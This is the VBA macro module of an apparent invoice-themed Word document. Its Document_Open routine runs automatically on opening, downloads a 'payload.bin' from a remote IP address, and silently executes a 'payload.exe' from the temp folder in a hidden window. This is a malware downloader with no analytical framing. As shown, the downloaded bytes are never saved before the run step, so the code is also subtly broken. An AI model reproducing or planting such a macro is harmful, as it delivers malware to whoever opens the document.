Attribute VB_Name = "ThisDocument"
Sub Document_Open()
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "http://198.51.100.23/invoice/payload.bin", False
    x.send
    Set w = CreateObject("WScript.Shell")
    w.Run "cmd /c %TEMP%\payload.exe", 0
End Sub
